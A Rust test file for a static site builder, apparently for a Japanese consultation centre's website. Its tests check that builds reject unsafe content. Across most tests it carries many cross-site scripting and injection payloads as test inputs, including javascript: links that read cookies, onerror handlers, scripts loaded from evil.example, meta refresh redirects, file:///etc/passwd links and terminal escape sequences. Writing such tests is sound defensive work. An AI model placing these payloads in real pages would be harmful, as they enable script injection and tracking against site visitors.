//! Content that would attack or track a reader, or reach a terminal with control codes:
//! `build` refuses each, at the file, line and column where it is written, and the
//! last good site stays as it was.

mod common;

use common::*;
use yorisoi::diagnostics::Problem;

const FRONT: &str = "+++\ntitle = \"センターについて\"\n+++\n\n";

/// Builds the good site, replaces `about.ja.md`'s text with `body`, and builds again:
/// the build must fail, leave the output as it was, and report `expected` at `line`.
fn refused(body: &str, line: usize, expected: impl Fn(&Problem) -> bool) {
    refused_in("about.ja.md", &format!("{FRONT}{body}"), line, expected);
}

fn refused_in(rel: &str, text: &str, line: usize, expected: impl Fn(&Problem) -> bool) {
    let site = Workspace::copy_of("basic");
    assert!(site.build().written);
    let before = snapshot(&site.output);
    site.write(rel, text);
    let outcome = site.build();
    assert!(!outcome.written, "{rel}: {text}");
    assert_eq!(snapshot(&site.output), before, "the last good site changed");
    let found = outcome
        .diagnostics
        .iter()
        .find(|d| expected(&d.problem))
        .unwrap_or_else(|| panic!("{text}\n{:#?}", outcome.diagnostics));
    assert!(found.is_error(), "{found:?}");
    let location = found.location.as_ref().expect("located");
    assert_eq!(location.file, std::path::Path::new(rel), "{found:?}");
    assert_eq!(location.line, line, "{text}: {found:?}");
}

#[test]
fn links_with_script_or_local_file_schemes_are_refused() {
    for (link, scheme) in [
        (
            "[開館時間](javascript:alert(document.cookie))",
            "javascript",
        ),
        ("[x](JavaScript:alert(1))", "javascript"),
        ("[x](vbscript:msgbox(1))", "vbscript"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "data"),
        ("[x](file:///etc/passwd)", "file"),
        ("<javascript:alert(1)>", "javascript"),
        ("<a href=\"javascript:alert(1)\">x</a>", "javascript"),
        ("<a href=\"&#106;avascript:alert(1)\">x</a>", "javascript"),
        ("<a href=\" java\tscript:alert(1)\">x</a>", "javascript"),
    ] {
        refused(
            &format!("本文。\n\n{link}\n"),
            7,
            |p| matches!(p, Problem::UnsafeUrl { scheme: s, .. } if s == scheme),
        );
    }
}

/// A browser reads `/\host`, `\\host` and `//host` as another site, and `https:host`
/// as one when the page came over http: a link written so is refused where it is
/// written, never published as the page of the site the build took it for.
#[test]
fn links_a_browser_reads_as_another_host_are_refused() {
    for link in [
        "[窓口](/\\evil.example/)",
        // Markdown reads `\\` as one backslash: four are two.
        "[窓口](\\\\\\\\evil.example/)",
        "[窓口](//evil.example/)",
        "[窓口](https:evil.example)",
        "<a href=\"/\t\\evil.example/\">窓口</a>",
    ] {
        refused(&format!("本文。\n\n{link}\n"), 7, |p| {
            matches!(p, Problem::HostWrittenAsPath { .. })
        });
    }
    refused_in(
        "sources.toml",
        "[[source]]\nid = \"leaflet-2026\"\ntitle.ja = \"リーフレット\"\nurl = \"https:evil.example\"\npublished = 2026-04-01\n",
        4,
        |p| matches!(p, Problem::HostWrittenAsPath { .. }),
    );
}

#[test]
fn scripts_and_handlers_are_errors_not_warnings() {
    refused("<script>alert(1)</script>\n", 5, |p| {
        matches!(p, Problem::ScriptInContent)
    });
    refused(
        "<p>\n<img src=\"/files/a.png\" alt=\"\" onerror=\"alert(1)\">\n</p>\n",
        6,
        |p| matches!(p, Problem::InlineEventHandler { attribute } if attribute == "onerror"),
    );
    for element in [
        "iframe", "object", "embed", "form", "style", "svg", "link", "meta", "base",
    ] {
        refused(
            &format!("<{element}>\n"),
            5,
            |p| matches!(p, Problem::ElementNotAllowed { name } if name == element),
        );
    }
}

#[test]
fn anything_loaded_from_another_host_is_refused() {
    for body in [
        "![地図](https://maps.example/tile.png)\n",
        "<img src=\"https://tracker.example/p.gif\" alt=\"\">\n",
        "<img src=\"//tracker.example/p.gif\" alt=\"\">\n",
        "<video src=\"https://video.example/a.mp4\" controls></video>\n",
        "<span style=\"background: url(https://tracker.example/p.gif)\">x</span>\n",
        "<span style=\"background: u\\72l(https://tracker.example/p.gif)\">x</span>\n",
    ] {
        refused(body, 5, |p| matches!(p, Problem::ExternalResource { .. }));
    }
    // A link to another site is fine: the reader chooses to follow it.
    let site = Workspace::copy_of("basic");
    site.write(
        "about.ja.md",
        format!("{FRONT}[宮城県のページ](https://www.pref.miyagi.jp/)\n"),
    );
    let outcome = site.build();
    assert!(outcome.written, "{:#?}", outcome.diagnostics);
}

#[test]
fn control_characters_are_refused_where_they_are_and_never_reach_the_terminal() {
    for (c, column) in [('\u{0}', 4), ('\u{1}', 4), ('\u{1b}', 4)] {
        let body = format!("本文。{c}[2J続き\n");
        refused(
            &body,
            5,
            |p| matches!(p, Problem::ControlCharacter { code } if *code == u32::from(c)),
        );
        let site = Workspace::copy_of("basic");
        site.write("about.ja.md", format!("{FRONT}{body}"));
        let run = yorisoi_command()
            .args(["build", "--content", "content", "--theme"])
            .arg(theme_dir())
            .current_dir(site.dir.path())
            .output()
            .unwrap();
        assert_eq!(run.status.code(), Some(1));
        assert!(
            !run.stderr
                .iter()
                .any(|b| *b < 0x20 && !matches!(b, b'\n' | b'\t')),
            "a control byte reached the terminal"
        );
        let stderr = String::from_utf8_lossy(&run.stderr);
        assert!(
            stderr.contains(&format!(
                "content/about.ja.md:5:{column}: エラー: 目に見えない制御文字"
            )),
            "{stderr}"
        );
    }
    // Written as an escape in TOML, in a data file.
    refused_in(
        "sources.toml",
        "[[source]]\nid = \"leaflet-2026\"\ntitle.ja = \"リーフレット\\u001b[2J\"\npublished = 2026-04-01\n",
        3,
        |p| matches!(p, Problem::ControlCharacter { code: 0x1b }),
    );
}

#[test]
fn bidi_controls_and_noncharacters_are_refused_in_text_front_matter_and_data_files() {
    for c in ['\u{202E}', '\u{2066}', '\u{FFFF}', '\u{FDD0}', '\u{10FFFE}'] {
        refused(
            &format!("本文。{c}続き\n"),
            5,
            |p| matches!(p, Problem::ControlCharacter { code } if *code == u32::from(c)),
        );
        refused_in(
            "about.ja.md",
            &format!("+++\ntitle = \"センター{c}について\"\n+++\n\n本文。\n"),
            2,
            |p| matches!(p, Problem::ControlCharacter { code } if *code == u32::from(c)),
        );
        refused_in(
            "sources.toml",
            &format!(
                "[[source]]\nid = \"leaflet-2026\"\ntitle.ja = \"リーフレット{c}\"\npublished = 2026-04-01\n"
            ),
            3,
            |p| matches!(p, Problem::ControlCharacter { code } if *code == u32::from(c)),
        );
    }
    // Written as escapes in TOML.
    refused_in(
        "sources.toml",
        "[[source]]\nid = \"leaflet-2026\"\ntitle.ja = \"リーフレット\\uFFFF\"\npublished = 2026-04-01\n",
        3,
        |p| matches!(p, Problem::ControlCharacter { code: 0xFFFF }),
    );
    refused_in(
        "about.ja.md",
        "+++\ntitle = \"センター\\u202Eについて\"\n+++\n\n本文。\n",
        2,
        |p| matches!(p, Problem::ControlCharacter { code: 0x202E }),
    );
    // In the settings, whose title reaches every page and the feed.
    let settings = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/basic/content/site.toml"),
    )
    .unwrap();
    let title = "title = \"みやぎ相談センター\"";
    assert!(settings.contains(title));
    let line = settings.lines().position(|l| l == title).unwrap() + 1;
    for (written, code) in [
        ("\u{FFFF}", 0xFFFF),
        ("\\uFFFF", 0xFFFF),
        ("\\u2066", 0x2066),
    ] {
        refused_in(
            "site.toml",
            &settings.replacen(
                title,
                &format!("title = \"みやぎ{written}相談センター\""),
                1,
            ),
            line,
            |p| matches!(p, Problem::ControlCharacter { code: c } if *c == code),
        );
    }
}

#[test]
fn raw_html_split_over_two_blocks_is_refused_where_the_first_ends_inside_a_tag() {
    // The browser joins the blocks: the second one's harmless-looking text finishes the
    // first one's tag with whatever it likes.
    for (open, rest) in [
        (
            "<img src=\"/x\" alt=\"\" title=\"",
            "<b title=\" onerror=alert(document.domain) \">x</b>",
        ),
        (
            "<p title=\"",
            "\"><script src=\"https://evil.example/x.js\"></script>",
        ),
        (
            "<p title=\"",
            "\"><iframe src=\"https://evil.example/\"></iframe>",
        ),
        ("<p title=\"", "\"><base href=\"https://evil.example/\">"),
        (
            "<p title=\"",
            "\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        ),
        ("<details open title=\"", "\" ontoggle=alert(1)>x</details>"),
        ("<a title=\"", "\" href=javascript:alert(1)>x</a>"),
        ("<p title='", "' x>"),
        ("<p", "onclick=alert(1)>x</p>"),
        ("<!--", "--><img src=x onerror=alert(1)>"),
    ] {
        refused(&format!("<div>\n{open}\n\n{rest}\n"), 6, |p| {
            matches!(p, Problem::UnfinishedRawHtml)
        });
    }
}

#[test]
fn an_svg_may_not_load_a_style_sheet_or_hide_url_in_another_case() {
    let svg = |head: &str, inner: &str| {
        format!(
            "<?xml version=\"1.0\"?>\n{head}\n<svg xmlns=\"http://www.w3.org/2000/svg\">\n{inner}\n</svg>\n"
        )
    };
    for target in ["https://tracker.example/s.css", "/files/page.xsl"] {
        refused_in(
            "files/map.svg",
            &svg(
                &format!("<?xml-stylesheet type=\"text/xsl\" href=\"{target}\"?>"),
                "<rect/>",
            ),
            2,
            |p| matches!(p, Problem::SvgProcessingInstruction { target } if target == "xml-stylesheet"),
        );
    }
    for inner in [
        "<rect fill=\"URL(https://tracker.example/#a)\"/>",
        "<rect fill=\"Url(https://tracker.example/#a)\"/>",
    ] {
        refused_in("files/map.svg", &svg("", inner), 4, |p| {
            matches!(p, Problem::ExternalResource { .. })
        });
    }
    refused_in(
        "files/map.svg",
        &svg(
            "",
            "<style>rect { --u: \"https://tracker.example/p.png\"; fill: image-set(var(--u) 1x) }</style>",
        ),
        4,
        |p| matches!(p, Problem::StyleCustomPropertyValue { name } if name == "--u"),
    );
}

#[test]
fn dates_outside_1900_to_2199_are_refused() {
    for (date, line) in [("0000-01-01", 3), ("1899-12-31", 3), ("2200-01-01", 3)] {
        refused_in(
            "about.ja.md",
            &format!("+++\ntitle = \"センターについて\"\ndate = {date}\n+++\n\n本文。\n"),
            line,
            |p| matches!(p, Problem::InvalidDate { .. }),
        );
    }
    refused_in(
        "about.ja.md",
        "+++\ntitle = \"センターについて\"\ndate = \"-001-01-01\"\n+++\n\n本文。\n",
        3,
        |p| matches!(p, Problem::InvalidDate { .. }),
    );
}

#[test]
fn a_source_address_must_be_a_web_address() {
    refused_in(
        "sources.toml",
        "[[source]]\nid = \"leaflet-2026\"\ntitle.ja = \"リーフレット\"\nurl = \"javascript:alert(1)\"\npublished = 2026-04-01\n",
        4,
        |p| matches!(p, Problem::UnsafeUrl { scheme, .. } if scheme == "javascript"),
    );
}

#[test]
fn downloads_a_browser_would_run_are_refused_and_svg_is_checked() {
    for name in ["files/page.html", "files/tool.js", "files/map.svgz"] {
        refused_in(name, "<p>x</p>", 1, |p| {
            matches!(p, Problem::UnpublishableFile { .. })
        });
    }
    refused_in(
        "files/map.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\">\n<script>alert(1)</script>\n</svg>\n",
        2,
        |p| matches!(p, Problem::ScriptInContent),
    );
    refused_in(
        "files/map.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">\n<image xlink:href=\"https://tracker.example/p.png\"/>\n</svg>\n",
        2,
        |p| matches!(p, Problem::ExternalResource { .. }),
    );
    // A plain drawing is published.
    let site = Workspace::copy_of("basic");
    site.write(
        "files/map.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\"><title>Map</title><rect width=\"10\" height=\"10\"/></svg>\n",
    );
    site.write("about.ja.md", format!("{FRONT}![地図](/files/map.svg)\n"));
    let outcome = site.build();
    assert!(outcome.written, "{:#?}", outcome.diagnostics);
}

#[cfg(unix)]
#[test]
fn a_symbolic_link_in_the_content_is_not_followed() {
    let site = Workspace::copy_of("basic");
    let secret = site.dir.path().join("secret.txt");
    std::fs::write(&secret, "not for the web").unwrap();
    std::os::unix::fs::symlink(&secret, site.content.join("files/secret.txt")).unwrap();
    let outcome = site.build();
    assert!(outcome.written);
    assert!(outcome.diagnostics.iter().any(|d| {
        matches!(d.problem, Problem::SymlinkNotFollowed)
            && d.location
                .as_ref()
                .is_some_and(|l| l.file == std::path::Path::new("files/secret.txt"))
    }));
    assert!(!site.output.join("files/secret.txt").exists());
}

#[test]
fn every_refusal_of_a_page_is_reported_in_one_build() {
    let site = Workspace::copy_of("basic");
    site.write(
        "about.ja.md",
        format!(
            "{FRONT}[開館時間](javascript:alert(1))\n\n<img src=\"https://t.example/p.gif\" alt=\"\">\n\n本文\u{1b}[2J\n"
        ),
    );
    let outcome = site.build();
    let lines: Vec<usize> = outcome
        .diagnostics
        .iter()
        .filter(|d| d.is_error())
        .filter_map(|d| d.location.as_ref().map(|l| l.line))
        .collect();
    assert_eq!(lines, vec![5, 7, 9], "{:#?}", outcome.diagnostics);
}
